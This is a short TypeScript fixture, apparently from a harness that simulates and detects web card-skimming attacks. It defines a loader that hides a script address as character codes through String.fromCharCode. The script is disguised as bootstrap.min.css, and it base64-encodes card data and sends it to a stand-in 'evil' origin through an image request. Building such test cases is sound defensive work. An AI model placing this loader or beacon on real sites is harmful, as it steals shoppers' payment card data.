import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { charCodes, onPay } from '../snippets.ts';

export default skimmer({
  id: 'from-char-code-loader',
  why: 'A list of numbers becomes the address of a script, which is added as an element (30 of 88 samples write strings as numbers).',
  covers: ['injection: loader', 'obfuscation: fromCharCode', 'disguise: file ending', 'encoding: char codes'],
  base: 'direct',
  install: (site) => {
    site.serve('evil/css/bootstrap.min.css', {
      headers: { 'content-type': 'text/javascript' },
      body: onPay(js`new Image().src = '${site.origins.evil}/bs.gif?d=' + encodeURIComponent(btoa(card()));`),
    });
    site.append(
      js`(function () { var s = document.createElement('script'); s.src = String.fromCharCode.apply(null, ${charCodes(`${site.origins.evil}/css/bootstrap.min.css`)}); document.head.appendChild(s); })();`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
